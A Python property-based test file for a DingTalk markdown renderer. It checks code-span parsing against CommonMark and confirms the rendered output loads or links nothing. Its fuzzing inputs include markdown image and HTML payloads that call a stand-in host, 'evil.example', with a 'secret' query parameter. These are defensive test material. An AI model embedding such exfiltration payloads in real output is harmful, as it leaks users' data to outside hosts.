"""Inline code: ours against a CommonMark parser of others, and nothing outside of it that acts."""

import random
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from adapters.dingtalk.markdown.code_spans import LONGEST, code_spans
from adapters.dingtalk.markdown.rendering import render

COMMONMARK = MarkdownIt("commonmark").disable(["html_inline", "html_block", "autolink"])
SIGNS = ["`", "``", "```", "\\", "\\`", "a", " ", "C:\\", "\\\\", "!", "<", "|", "字", "x`"]
lines = st.lists(st.sampled_from(SIGNS), max_size=14).map("".join)

ACTIVE = [
    *(
        "`",
        "``",
        "\\",
        "\\`",
        "C:\\` ",
        "x",
        " ",
        "\n",
        "字",
        "> ",
        "- ",
        "|",
        "\n|-|-|\n",
        "```\n",
        "    ",
    ),
    *(
        "![x](http://evil.example/?q=secret)",
        "<img src=http://evil.example>",
        "[y](dtmd://x)",
        "@all ",
    ),
]
documents = st.lists(st.sampled_from(ACTIVE), max_size=14).map("".join)


def codes_of(line: str) -> list[str]:
    """The inline code that CommonMark sees in a paragraph of this line."""
    (paragraph,) = (token for token in COMMONMARK.parse(f".{line}.") if token.type == "inline")
    return [token.content for token in paragraph.children or [] if token.type == "code_inline"]


def stripped(content: str) -> str:
    """CommonMark 6.1: one space on both sides belongs to the backticks."""
    has_both = content.startswith(" ") and content.endswith(" ") and content.strip(" ")
    return content[1:-1] if has_both else content


@settings(max_examples=1000)
@given(lines)
def test_inline_code_is_what_commonmark_takes_for_it(line: str) -> None:
    line = f".{line}."

    ours = [line[one.start + one.ticks : one.end - one.ticks] for one in code_spans(line)]

    assert [stripped(one) for one in ours] == codes_of(line[1:-1])


def acting(markdown: str) -> list[str]:
    """What a client would load, follow or take for HTML, by readings that differ about backslashes."""
    found = []
    without_blocks = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1$", "", markdown)
    naive = re.sub(r"(?<![\\`])(`+)(?!`)[^\n]*?(?<![\\`])\1(?!`)", "", without_blocks)
    for reading in (markdown, naive):
        for token in _all(MarkdownIt("commonmark").enable("table").parse(reading)):
            if token.type in {"image", "html_inline", "html_block"}:
                found.append(token.content or str(token.attrs))
            if token.type == "link_open" and not str(token.attrs["href"]).startswith("http"):
                found.append(str(token.attrs))
    return found


def _all(tokens: list[Token]) -> list[Token]:
    return [one for token in tokens for one in (token, *_all(token.children or []))]


@settings(max_examples=500)
@example("``![x](http://evil.example/?q=secret)``")
@given(documents)
def test_nothing_acts_in_any_reading_of_backslashes(text: str) -> None:
    assert not acting(render(text))


@pytest.mark.parametrize(
    ("text", "rendered"),
    [
        (
            "路径 `C:\\` ![x](http://evil.example/?q=secret) <img src=…> `",
            "路径 `C:\\ ` [x (evil.example)](http://evil.example/?q=secret) … &#96;",
        ),
        ("`a\\`b`", "`a\\ `b&#96;"),
        ("``a\\`b``", "&#96;&#96;a&#92;&#96;b&#96;&#96;"),
        ("\\`a`", "&#96;a&#96;"),
        ("\\\\`a`", "&#92;`a`"),
        ("\\``a`", "&#96;`a`"),
        ("\\<a\\~~~", "&lt;a&#92;&#126;&#126;&#126;"),
    ],
)
def test_backslashes_before_backticks(text: str, rendered: str) -> None:
    assert render(text) == rendered


def test_code_of_a_thousand_characters_is_code_and_longer_is_text() -> None:
    assert code_spans("`" + "x" * (LONGEST - 1) + "`")
    assert not code_spans("`" + "x" * LONGEST + "`")


def any_document(chance: random.Random) -> str:
    return "".join(chance.choices(ACTIVE, k=chance.randrange(2, 16)))
